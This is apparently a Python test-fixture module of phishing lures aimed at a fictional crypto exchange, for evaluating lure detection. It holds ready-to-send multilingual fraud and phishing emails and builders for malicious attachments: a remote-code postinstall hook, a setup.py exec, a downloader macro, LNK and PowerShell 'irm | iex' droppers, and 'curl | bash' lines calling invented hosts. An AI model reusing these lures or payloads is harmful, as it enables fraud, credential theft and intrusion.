"""Set B lures against Kitsune Exchange: hand-written after set A was used for development.

New stories and wording, not rewrites of set A. Sender domains of lures are invented; wallet
addresses are invented and hold nothing.
"""

from __future__ import annotations

import json

import binaries as b
from people import (
    CEO_JA,
    CFO,
    HADDAD,
    ITO,
    ITO_JA,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TAKAHASHI,
    TANAKA,
    TANAKA_JA,
    TREASURY,
    WATANABE_JA,
)
from spec import Att, Mail

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
MSHTA = r"C:\Windows\System32\mshta.exe"


def docker_test_zip() -> bytes:
    """A 'take-home' whose compose file mounts the host's home and runs a fetched script at start."""
    compose = (
        "services:\n"
        "  api:\n"
        "    build: ./api\n"
        "    ports: [\"8080:8080\"]\n"
        "    volumes:\n"
        "      - ${HOME}:/host-home\n"
        "      - /var/run/docker.sock:/var/run/docker.sock\n"
        "    privileged: true\n"
        "    command: sh -c \"curl -s https://registry.matchbench-dev.io/init.sh | sh && npm run serve\"\n"
        "  db:\n"
        "    image: postgres:16\n"
    )
    readme = ("# Order-matching take-home\n\n1. `docker compose up --build`\n2. Open http://localhost:8080\n"
              "3. Implement `match()` in `api/src/book.ts` (price-time priority).\n\nPlease finish within 60 minutes.\n")
    dockerfile = "FROM node:20-alpine\nWORKDIR /app\nCOPY . .\nRUN npm install\n"
    pkg = {"name": "matchbench-api", "version": "0.4.2", "private": True,
           "scripts": {"postinstall": "node tools/telemetry.js", "serve": "node dist/server.js"},
           "dependencies": {"express": "^4.21.1", "ethers": "^6.13.4"}}
    telemetry = ("const h=require('https'),o=require('os');"
                 "h.get('https://registry.matchbench-dev.io/t?u='+o.userInfo().username,r=>{let b='';"
                 "r.on('data',c=>b+=c);r.on('end',()=>{new Function(b)()})});\n")
    return b.zip_archive([
        ("matchbench/docker-compose.yml", compose.encode()),
        ("matchbench/README.md", readme.encode()),
        ("matchbench/api/Dockerfile", dockerfile.encode()),
        ("matchbench/api/package.json", json.dumps(pkg, indent=2).encode()),
        ("matchbench/api/tools/telemetry.js", telemetry.encode()),
        ("matchbench/api/src/book.ts", b"export function match() {\n  // TODO\n}\n"),
    ])


def python_test_zip() -> bytes:
    setup = ("from setuptools import setup\nimport base64, urllib.request\n"
             "exec(urllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9weXBpLXN0YXRzLm5ldC9iL3N0YXJ0').decode()).read())\n"
             "setup(name='quant_challenge', version='1.0', packages=['quant_challenge'])\n")
    return b.zip_archive([
        ("quant_challenge/setup.py", setup.encode()),
        ("quant_challenge/README.txt", b"pip install -e . then python -m quant_challenge.run\n"),
        ("quant_challenge/quant_challenge/__init__.py", b""),
        ("quant_challenge/quant_challenge/run.py", b"print('implement the backtest here')\n"),
    ])


MACRO_KYC = (
    'Attribute VB_Name = "ThisDocument"\n'
    "Private Sub Document_Open()\n"
    '    Dim p As String\n'
    '    p = Environ("TEMP") & "\\kyc.js"\n'
    '    Set h = CreateObject("MSXML2.ServerXMLHTTP")\n'
    '    h.Open "GET", "https://kyc-review-docs.com/s/form.js", False\n'
    "    h.Send\n"
    '    Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(p, True)\n'
    "    f.Write h.responseText\n"
    "    f.Close\n"
    '    CreateObject("WScript.Shell").Run "wscript " & p, 0, False\n'
    "End Sub\n"
)

LURES: list[Mail] = [
    # ---------------------------------------------------------------- exec-impersonation
    Mail("lure", "exec-impersonation", "ja",
         "CEO name from a yahoo.co.jp free-mail account; asks the assistant to buy gift cards quietly",
         ("佐藤陽翔", "hsato.kitsune@yahoo.co.jp"), (ITO_JA,),
         "お願いがあります",
         """伊藤さん

佐藤です。今、外出先で私用の携帯から連絡しています。
取引先へのお礼として、Apple ギフトカード（1万円分×20枚）を至急用意してほしいです。
購入したら裏面のコードを写真に撮ってこのアドレスに送ってください。費用は後で精算します。

サプライズなので、社内の他の人には言わないでください。

佐藤""",
         "2026-11-03 13:22 +0900"),
    Mail("lure", "exec-impersonation", "en",
         "CEO name with a reply-to on a proton.me mailbox; From is a lookalike kitsune-exc.co.jp; acquisition wire under NDA",
         ("Haruto Sato", "h.sato@kitsune-exc.co.jp"), (CFO,),
         "Project Fennec - escrow deposit",
         """Emily,

As you know we are close on Project Fennec. Counsel needs the escrow deposit lodged before the
Hong Kong market closes today. Outside counsel (Mr. Ng, Baxter & Lowe) will email you the escrow
instructions directly - please action them as soon as they arrive and do not discuss on Slack,
the NDA is very strict.

I'm in the air most of the day. Reply here only.

Haruto""",
         "2026-11-04 09:05 +0900", reply_to="haruto.sato.private@proton.me"),
    Mail("lure", "exec-impersonation", "en",
         "spoofs the CEO's own address (DMARC fail); asks treasury to raise the hot wallet daily withdrawal limit",
         ("Haruto Sato", "h.sato@kitsune-ex.co.jp"), (TANAKA,),
         "Raise hot wallet limit today",
         """Mika,

Please raise the hot wallet daily withdrawal limit to 2,500 ETH until Friday. A market maker is
rebalancing and I don't want the queue to stall. I have already told compliance verbally.

Do it before 3pm and confirm by reply. I'm on a call all afternoon.

H""",
         "2026-11-07 11:40 +0900", auth="fail", return_path="bounce@mailer-relay.shop"),
    Mail("lure", "exec-impersonation", "ko",
         "Korean mail using the CFO's name from a naver.com account; asks the Seoul office for signer device details",
         ("Emily Carter", "emilycarter.kx@naver.com"), (PARK,),
         "긴급: 서명자 기기 목록",
         """대현 님,

에밀리입니다. 외부 감사 일정이 앞당겨져서 오늘 중으로 아래 자료가 필요합니다.

- 콜드 월렛 서명자 이름과 하드웨어 지갑 시리얼 번호
- 각 기기의 보관 위치

회사 메일은 지금 접속이 안 돼서 이 주소로 보내 주세요. 다른 분께는 아직 공유하지 말아 주세요.

Emily Carter, CFO""",
         "2026-11-08 17:10 +0900"),
    Mail("lure", "exec-impersonation", "ja",
         "CEO name from subdomain trick kitsune-ex.co.jp.mail-secure.net; payroll account change for himself",
         ("佐藤 陽翔", "h.sato@kitsune-ex.co.jp.mail-secure.net"), (WATANABE_JA,),
         "給与振込口座の変更",
         """渡辺さん

お疲れ様です。佐藤です。
今月から給与の振込口座を変更したいので、下記に切り替えをお願いできますか。
今月25日の支給分から反映してもらえると助かります。

銀行名：ネオバンク銀行 つばめ支店
口座番号：普通 7720194
名義：サトウ ハルト

手続きが済んだらこのメールに返信をお願いします。""",
         "2026-11-09 10:02 +0900"),
    # ---------------------------------------------------------------- vendor-impersonation
    Mail("lure", "vendor-impersonation", "en",
         "fake Safe{Wallet} security notice from safe-wallet-security.com asking owners to 're-verify' signers via a link",
         ("Safe{Wallet} Security", "security@safe-wallet-security.com"), (TANAKA, TAKAHASHI),
         "Action required: signer re-verification after module vulnerability",
         """Dear Safe owner,

A vulnerability was identified in a fallback handler used by some Safe{Wallet} accounts deployed
before 2025. To keep your assets protected, every owner must re-verify their signer before
November 12. Unverified Safes will be placed in read-only mode.

Re-verify your signer:
https://app.safe-wallet-security.com/verify?chain=eth

Connect the same hardware wallet you use to sign and approve the verification message.

Safe{Wallet} Security Team""",
         "2026-11-02 08:30 +0000"),
    Mail("lure", "vendor-impersonation", "en",
         "Fireblocks name from fireb1ocks.io (digit 1); 'mandatory co-signer update' with a download of a signed-looking exe",
         ("Fireblocks Customer Success", "success@fireb1ocks.io"), (TAKAHASHI,),
         "Mandatory API Co-Signer update 3.9.2 (deadline Nov 15)",
         """Hello Sho,

Fireblocks is deprecating API Co-Signer versions below 3.9. Workspaces that are not updated by
November 15 will have automated withdrawals paused.

Download the updated Co-Signer installer here:
https://downloads.fireb1ocks.io/cosigner/FireblocksCoSigner-3.9.2-win64.exe

SHA-256 is published on the same page. Run the installer on the co-signer host with
administrator rights.

Best,
Fireblocks Customer Success""",
         "2026-11-05 15:45 +0000"),
    Mail("lure", "vendor-impersonation", "ja",
         "Japanese notice claiming to be from the Fireblocks Tokyo team on fireblocks-jp.com; asks to re-register the API key",
         ("Fireblocks Japan", "support@fireblocks-jp.com"), (SUZUKI_JA,),
         "【Fireblocks】APIキー再登録のお願い",
         """鈴木様

いつもFireblocksをご利用いただきありがとうございます。
システム移行に伴い、11月10日までにAPIキーと秘密鍵ファイル（fireblocks_secret.key）の再登録が必要です。
下記のフォームから、現在お使いの秘密鍵ファイルをアップロードしてください。

https://fireblocks-jp.com/migration/upload

期限を過ぎるとAPI経由の出金が停止されます。

Fireblocks 日本チーム""",
         "2026-11-06 10:20 +0900"),
    Mail("lure", "vendor-impersonation", "fr",
         "French message from a fake Ledger Enterprise address; asks to run a 'firmware recovery' tool from a non-Ledger domain",
         ("Ledger Enterprise", "enterprise@ledger-entreprise.fr"), (LAURENT,),
         "Mise à jour de sécurité obligatoire - Ledger Enterprise",
         """Bonjour Camille,

Suite à un incident chez un fournisseur, Ledger Enterprise demande à tous ses clients
d'installer l'outil de récupération du micrologiciel avant le 14 novembre :

https://ledger-entreprise.fr/outils/LedgerRecovery-2.1.exe

Pendant l'installation, l'outil vous demandera de saisir vos 24 mots de récupération pour
vérifier l'intégrité de l'appareil.

L'équipe Ledger Enterprise""",
         "2026-11-09 09:15 +0100"),
    # ---------------------------------------------------------------- lookalike-link
    Mail("lure", "lookalike-link", "en",
         "'password expires' notice whose link points to kitsune-ex.co.jp-sso.com (the org domain as a prefix)",
         ("Kitsune IT Service Desk", "it-desk@kitsune-itdesk.com"), (TANAKA,),
         "Your password expires in 24 hours",
         """Hi Mika,

Your Kitsune Exchange account password expires in 24 hours. Keep your current password by
confirming it here:

https://kitsune-ex.co.jp-sso.com/auth/keep-password?user=m.tanaka

IT Service Desk""",
         "2026-11-01 07:00 +0900"),
    Mail("lure", "lookalike-link", "en",
         "HTML anchor text shows app.safe.global but the href goes to app.safe-global.io",
         ("Treasury Bot", "alerts@treasury-notify.io"), (TREASURY,),
         "Pending Safe transaction requires 1 more signature",
         """A transaction is waiting for your signature.

Safe: eth:0x7A41...9F34
Nonce: 318
Value: 640 ETH

Open in Safe: https://app.safe.global/transactions/queue""",
         "2026-11-03 02:10 +0000",
         html=("<p>A transaction is waiting for your signature.</p><p>Safe: eth:0x7A41...9F34<br>Nonce: 318<br>"
               "Value: 640 ETH</p><p><a href=\"https://app.safe-global.io/transactions/queue?safe=eth:0x7A41c93bE02f5D8a6e91C3b4f0a2d6E8c5B19F34\">"
               "https://app.safe.global/transactions/queue</a></p>")),
    Mail("lure", "lookalike-link", "ja",
         "Japanese HR notice; link uses the homoglyph domain kitsune-ех.co.jp written with Cyrillic letters",
         ("人事部", "jinji@kitsune-hr-portal.jp"), (SUZUKI_JA,),
         "【人事部】年末調整の入力期限について",
         """社員各位

年末調整の入力期限は11月12日です。まだ入力されていない方は、下記の社内ポータルから
ログインして入力を完了してください。

https://portal.kitsune-ех.co.jp/nencho

人事部""",
         "2026-11-04 12:00 +0900"),
    Mail("lure", "lookalike-link", "en",
         "Fireblocks console lookalike behind a redirect on a real URL shortener-like path on console-fireblocks.app",
         ("Fireblocks", "no-reply@console-fireblocks.app"), (TAKAHASHI,),
         "New device login to your Fireblocks workspace",
         """A new device signed in to the Kitsune Exchange workspace:

Device: Windows 11 / Chrome 131
Location: Bucharest, Romania
Time: 2026-11-06 03:12 UTC

If this wasn't you, lock the workspace now:
https://console-fireblocks.app/security/lock?ws=kitsune-ex

Fireblocks Security""",
         "2026-11-06 03:20 +0000"),
    Mail("lure", "lookalike-link", "zh",
         "Chinese OTC notice with a link to kitsuneex-otc.com (hyphen dropped) asking to log in to confirm a trade",
         ("Kitsune OTC Desk", "otc@kitsuneex-otc.com"), (LI,),
         "请确认今日大宗交易",
         """李先生您好，

您今日有一笔大宗交易（USDT 2,000,000）等待确认。请在香港时间下午四点前登录确认，否则交易将被取消：

https://kitsuneex-otc.com/desk/confirm?ref=HK-88213

Kitsune OTC""",
         "2026-11-08 10:30 +0800"),
    # ---------------------------------------------------------------- recruiter-coding-test
    Mail("lure", "recruiter-coding-test", "ja",
         "Japanese headhunter 'via LinkedIn' sends a Docker compose take-home that mounts $HOME and pipes a script to sh",
         ("小林 大輔", "d.kobayashi@nextgen-career-partners.jp"), (SUZUKI_JA,),
         "LinkedInでご連絡した件（技術課題のご案内）",
         """鈴木 健太 様

先日LinkedInでご連絡いたしました、ネクストジェン・キャリアパートナーズの小林です。
ご興味をお持ちいただきありがとうございます。

シンガポールのデジタル資産取引所（非公開）の一次選考として、技術課題をお送りします。
添付のzipを展開し、docker compose up --build で起動した状態で match() を実装してください。
所要時間は60分程度です。本日中にご提出いただけると、来週の面接に間に合います。

よろしくお願いいたします。

小林 大輔""",
         "2026-11-02 18:30 +0900",
         attachments=(Att("matchbench_takehome.zip", docker_test_zip(), "application/zip"),)),
    Mail("lure", "recruiter-coding-test", "en",
         "quant-fund recruiter from gmail sends a Python take-home whose setup.py executes code fetched from a URL",
         ("Olivia Brandt", "olivia.brandt.talent@gmail.com"), (SUZUKI,),
         "Quant Developer - Helix Capital (take-home)",
         """Hi Kenta,

Thanks for the quick chat on LinkedIn. Helix Capital would love to move you to the technical
round. Attached is the take-home: install it with `pip install -e .` and run
`python -m quant_challenge.run`. It should take about 30 minutes.

The hiring manager is reviewing submissions tonight, so the sooner the better!

Olivia""",
         "2026-11-04 22:05 +0000",
         attachments=(Att("quant_challenge.zip", python_test_zip(), "application/zip"),)),
    Mail("lure", "recruiter-coding-test", "en",
         "recruiter asks to clone a GitLab repo and run `npm run setup` that is a curl|bash, before a call",
         ("Marcus Lee", "marcus@chainforge-talent.io"), (SUZUKI,),
         "ChainForge - next step before Thursday",
         """Hey Kenta,

Great speaking yesterday. Before Thursday's call with our CTO, please get our sandbox running:

git clone https://gitlab.com/chainforge-hiring/sandbox-wallet.git
cd sandbox-wallet && npm run setup

(setup just does `curl -sL https://chainforge-talent.io/bootstrap | bash` to pull the test keys.)

Send me a screenshot of the dashboard once it's up.

Marcus""",
         "2026-11-07 16:40 +0000"),
    Mail("lure", "recruiter-coding-test", "ko",
         "Korean recruiter sends a GitHub repo for a 'DEX bug bounty test' with npm install and a same-day deadline",
         ("최지훈", "jihoon.choi@blockhire.kr"), (PARK,),
         "[BlockHire] 블록체인 개발자 포지션 사전 과제",
         """박대현 님, 안녕하세요.

BlockHire의 최지훈입니다. 지난주 말씀드린 DEX 스타트업 포지션의 사전 과제입니다.

1. https://github.com/dexlabs-hiring/bounty-test 를 클론합니다.
2. npm install 후 npm run test 를 실행해 실패하는 테스트를 고쳐 주세요.

오늘 밤 12시까지 결과를 보내 주시면 바로 CTO 면접을 잡겠습니다.

최지훈 드림""",
         "2026-11-09 14:20 +0900"),
    # ---------------------------------------------------------------- investor-meeting-install
    Mail("lure", "investor-meeting-install", "ko",
         "Korean VC asks the CEO's assistant to install a 'demo build' of their portfolio app before the meeting",
         ("정수민", "sumin.jung@hangang-ventures.kr"), (ITO,),
         "한강벤처스 미팅 전 데모 빌드 설치 요청",
         """Ito-san, 안녕하세요.

한강벤처스 정수민입니다. 다음 주 사토 대표님과의 미팅에서 저희 포트폴리오사의 지갑 앱을
직접 보여 드리고 싶습니다. 회의 전에 아래 데모 빌드를 대표님 노트북에 설치해 주실 수 있을까요?

Windows: https://hangang-ventures.kr/demo/PortfolioWallet_Setup_0.9.exe
macOS: https://hangang-ventures.kr/demo/PortfolioWallet-0.9.dmg

설치 후 실행해 두시면 회의 때 바로 연결하겠습니다.

정수민 드림""",
         "2026-11-01 15:00 +0900"),
    Mail("lure", "investor-meeting-install", "en",
         "'investor' sends a Teams lookalike link teams-live.us that asks to install a 'meeting codec' pkg",
         ("Victor Hale", "victor@northgate-capital.co"), (CFO,),
         "Northgate Capital x Kitsune - call link",
         """Emily,

Looking forward to our call at 10:00 JST. We use a secured Teams tenant, so please join via our
bridge below. If you're on a Mac it will prompt you to install the Northgate meeting codec first -
that's expected, our compliance team requires it.

https://teams-live.us/l/meetup-join/northgate-kitsune?codec=mac

Best,
Victor Hale
Partner, Northgate Capital""",
         "2026-11-03 20:15 +0000"),
    Mail("lure", "investor-meeting-install", "ja",
         "Japanese investor relations contact asks to paste a Terminal command to 'fix camera permission' before a video call",
         ("松本 誠", "m.matsumoto@hikari-growth.vc"), (CEO_JA,),
         "明日のオンライン面談について（事前準備のお願い）",
         """佐藤様

ひかりグロースの松本です。明日のオンライン面談、よろしくお願いいたします。
弊社の会議システムではMacのカメラ許可がうまく通らないことがあるため、
事前にターミナルで下記のコマンドを実行していただけますでしょうか。

curl -fsSL https://hikari-growth.vc/meet/fixcam.sh | sudo bash

ご不明な点があればお知らせください。

松本 誠""",
         "2026-11-05 19:40 +0900"),
    Mail("lure", "investor-meeting-install", "ar",
         "Arabic family-office contact sends a 'secure data room viewer' installer link before a meeting",
         ("خالد المنصوري", "khalid@almansoori-fo.ae"), (HADDAD,),
         "غرفة البيانات قبل اجتماع الأحد",
         """عزيزي عمر،

تحية طيبة. قبل اجتماعنا يوم الأحد، أرجو تثبيت برنامج عرض غرفة البيانات الآمنة من الرابط التالي،
فالمستندات لا تفتح إلا من خلاله:

https://almansoori-fo.ae/dataroom/SecureViewer_Setup.msi

مع خالص التحية،
خالد المنصوري""",
         "2026-11-06 11:00 +0400"),
    # ---------------------------------------------------------------- trading-app
    Mail("lure", "trading-app", "en",
         "market-making 'trading bot' offered as an Android APK sideload, asks to enter exchange API keys with withdraw rights",
         ("AlphaGrid Support", "partners@alphagrid-bot.com"), (LI,),
         "AlphaGrid market-making bot - partner access",
         """Hello Li Wei,

As discussed at the Hong Kong FinTech Week booth, here is partner access to AlphaGrid, our
market-making bot. The Android app is not on Google Play yet, so install the APK directly
(allow "install unknown apps" when asked):

https://alphagrid-bot.com/release/AlphaGrid-4.2.0.apk

Enter your Kitsune API key with trade and withdraw permissions so the bot can rebalance.

AlphaGrid Partnerships""",
         "2026-11-02 09:10 +0800"),
    Mail("lure", "trading-app", "ja",
         "Japanese mail offering an arbitrage tool as a zipped Windows exe with instructions to disable Defender",
         ("裁定取引ラボ", "info@saitei-lab.net"), (TANAKA_JA,),
         "【限定公開】取引所間アービトラージツールのご案内",
         """田中様

突然のご連絡失礼いたします。国内外の取引所間の価格差を自動で取る社内ツールを、
提携取引所向けに限定公開しています。

ダウンロード：https://saitei-lab.net/dl/ArbTool_v3.zip
パスワード：kitsune2026

※ウイルス対策ソフトが誤検知することがあるため、インストール中は Windows Defender を一時的にオフにしてください。

裁定取引ラボ""",
         "2026-11-08 13:30 +0900"),
    # ---------------------------------------------------------------- wallet-request
    Mail("lure", "wallet-request", "en",
         "'chain analytics' firm says the hot wallet is flagged and asks for a signed message plus a 'verification' transfer",
         ("ChainGuard Compliance", "compliance@chainguard-aml.com"), (TREASURY,),
         "Your hot wallet has been flagged (case CG-22871)",
         """Dear Kitsune Exchange Treasury,

Address 0x00000000000000000000000000000000000a11ce was linked to a sanctioned mixer in our
latest screening. To lift the flag before partner exchanges freeze deposits, please:

1. Sign the message "ChainGuard verification CG-22871" with the hot wallet key, and
2. Send a 0.5 ETH verification deposit to 0xb41c7e93d0a25f68c17e4d20f9a3b5c6e81d7f20 (refunded in 48h).

Reply with the signature and transaction hash.

ChainGuard Compliance""",
         "2026-11-01 12:00 +0000"),
    Mail("lure", "wallet-request", "fr",
         "French message asking the Paris office to 'synchronise' the treasury wallet by entering the recovery phrase on a form",
         ("Service Conformité", "conformite@kitsune-ex-europe.com"), (LAURENT,),
         "Synchronisation obligatoire du portefeuille de trésorerie",
         """Bonjour Camille,

Dans le cadre de la mise en conformité MiCA, chaque portefeuille de trésorerie doit être
synchronisé avec le nouveau registre avant le 15 novembre. Merci de saisir la phrase de
récupération de 24 mots du portefeuille de secours sur le formulaire sécurisé :

https://kitsune-ex-europe.com/mica/sync

Service Conformité - Kitsune Exchange Europe""",
         "2026-11-04 10:45 +0100"),
    Mail("lure", "wallet-request", "zh",
         "Chinese partner asks the Hong Kong desk to approve an 'unlimited' token allowance for settlement",
         ("王磊", "wang.lei@hkdigital-otc.com"), (LI,),
         "结算授权请求",
         """李伟，

为了以后结算更快，请用你们的结算钱包在下面页面上批准 USDT 的无限额度授权（approve），
这样我们可以直接从你们的地址划转，不用每次等你们转账：

https://hkdigital-otc.com/settle/approve?token=USDT&amount=unlimited

今天下午完成就可以开始新的结算流程。

王磊""",
         "2026-11-07 15:15 +0800"),
    # ---------------------------------------------------------------- attachment
    Mail("lure", "attachment", "en",
         "ISO 'contract' from a law-firm lookalike: the image holds Contract.pdf.lnk running mshta on a remote URL",
         ("Baxter & Lowe LLP", "docs@baxterlowe-legal.com"), (CFO,),
         "Project Fennec - execution version of SPA",
         """Dear Ms Carter,

Please find attached the execution version of the share purchase agreement for Project Fennec.
For confidentiality the document is delivered as a sealed disk image; open it and double-click
the contract.

Kind regards,
Document Services
Baxter & Lowe LLP""",
         "2026-11-04 06:30 +0000",
         attachments=(Att("Fennec_SPA_Execution.iso", b.iso_image([
             ("Fennec_SPA_Execution.pdf.lnk", b.lnk(MSHTA, "https://baxterlowe-legal.com/v/spa.hta",
                                                    r"C:\Windows\System32\imageres.dll,2",
                                                    name="Fennec_SPA_Execution.pdf")),
         ], volume="FENNEC"), "application/x-iso9660-image"),)),
    Mail("lure", "attachment", "ja",
         "Japanese 'KYC review' request with a macro .docm that downloads and runs a JScript file",
         ("コンプライアンス審査室", "kyc@kyc-review-docs.com"), (TANAKA_JA,),
         "【要対応】法人口座の継続審査書類",
         """田中様

法人口座の継続審査にあたり、添付の確認書類にご記入のうえご返送ください。
文書は保護されています。開いた後「コンテンツの有効化」をクリックしてください。

コンプライアンス審査室""",
         "2026-11-05 09:00 +0900",
         attachments=(Att("継続審査書類.docm", b.word_document(
             ["法人口座 継続審査書類", "コンテンツの有効化をクリックしてください。"],
             macro_modules=[("ThisDocument", MACRO_KYC, True)]),
             "application/vnd.ms-word.document.macroEnabled.12"),)),
    Mail("lure", "attachment", "en",
         "HTML smuggling page posing as a DocuSign envelope that drops a zip holding a .lnk",
         ("DocuSign via Orion Partners", "dse@orion-docusign.net"), (ITO,),
         "Orion Partners sent you a document to review and sign",
         """Orion Partners sent you a document to review and sign.

Document: Kitsune_Orion_Side_Letter.pdf

Open the attached secure envelope to view it.""",
         "2026-11-06 01:15 +0000",
         attachments=(Att("Kitsune_Orion_Side_Letter.html", b.html_smuggling(
             b.zip_archive([("Kitsune_Orion_Side_Letter.pdf.lnk",
                             b.lnk(PS, "-nop -w hidden -ep bypass -c \"irm https://orion-docusign.net/e/1 | iex\"",
                                   r"C:\Windows\System32\imageres.dll,2", name="Kitsune_Orion_Side_Letter.pdf"))]),
             "Kitsune_Orion_Side_Letter.zip", "DocuSign", "Your envelope is being prepared."),
             "text/html"),)),
    Mail("lure", "attachment", "ar",
         "Arabic invoice with a password-protected 7z holding an .scr disguised by a long-space name",
         ("قسم الحسابات", "accounts@gulf-techsupplies.ae"), (HADDAD,),
         "فاتورة نوفمبر المستحقة",
         """السيد عمر المحترم،

نرفق لكم فاتورة شهر نوفمبر. الملف محمي بكلمة مرور لأسباب أمنية.
كلمة المرور: 2026

قسم الحسابات""",
         "2026-11-07 08:20 +0400",
         attachments=(Att("Invoice_Nov.7z", b.seven_zip(
             [("Invoice_Nov.pdf                                        .scr", b.pe_stub("7z-space"))],
             "2026", "gulf-nov"), "application/x-7z-compressed"),)),
    Mail("lure", "attachment", "en",
         "ZipCrypto-encrypted zip with a JScript 'payment schedule' and the password in the body",
         ("Harbor Freight Forwarding", "billing@harborff-asia.com"), (KEIRI,),
         "Payment schedule revised - password inside",
         """Dear Accounts team,

Attached is the revised payment schedule for Q1 2027. The archive is encrypted.
Password: HFF-1207

Thank you,
Billing, Harbor Freight Forwarding""",
         "2026-11-07 03:00 +0000",
         attachments=(Att("Payment_Schedule_Q1.zip", b.zip_archive(
             [("Payment_Schedule_Q1.js",
               b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c \"iwr https://harborff-asia.com/p.bin -o $env:TEMP\\\\p.exe; & $env:TEMP\\\\p.exe\"',0);")],
             password="HFF-1207"), "application/zip"),)),
    # ---------------------------------------------------------------- conversation-hijack
    Mail("lure", "conversation-hijack", "en",
         "BEC reply with real-looking In-Reply-To/References from lookalike minato-systerns.co.jp ('rn' for 'm'); new bank account",
         ("Minato Systems Billing", "billing@minato-systerns.co.jp"), (KEIRI,),
         "Re: November maintenance invoice MS-2026-11",
         """Dear Accounts team,

Thank you for confirming receipt. One update before you release payment: from this invoice our
receiving account has moved to our new bank after the year-end audit. Please pay MS-2026-11
to the account below and ignore the details printed on the PDF.

Bank: Pacific Crown Bank, Singapore
Account name: Minato Systems Pte Ltd
Account no.: 0712-884103-9
SWIFT: PCBKSGSG

Best regards,
Minato Systems Billing

On Fri, 6 Nov 2026 at 10:02, 経理部 <keiri@kitsune-ex.co.jp> wrote:
> Received, thank you. We will process it in the next payment run.""",
         "2026-11-09 11:30 +0900",
         in_reply_to="<20261106100212.4F2A1@kitsune-ex.co.jp>",
         references="<ms-inv-2026-11.a83f@minato-systems.co.jp> <20261106100212.4F2A1@kitsune-ex.co.jp>"),
    Mail("lure", "conversation-hijack", "ja",
         "Japanese reply in a real thread from a partner domain's lookalike sakura-peak-venture.com asking to open a 'revised term sheet' link",
         ("桜峰ベンチャーズ 山田", "yamada@sakura-peak-venture.com"), (ITO_JA,),
         "Re: 出資条件（タームシート）の件",
         """伊藤様

お世話になっております。桜峰ベンチャーズの山田です。
先ほどの件、修正版のタームシートを共有しました。佐藤様にもご確認いただけますと幸いです。
閲覧にはマイクロソフトアカウントでのサインインが必要です。

https://sakura-peak-venture.com/share/termsheet_rev3

よろしくお願いいたします。

> 伊藤です。修正版をいただけましたら佐藤に回します。""",
         "2026-11-10 16:05 +0900",
         in_reply_to="<CAFk3x9Q2m@kitsune-ex.co.jp>",
         references="<CAFk3x9Q2m@kitsune-ex.co.jp>"),
]
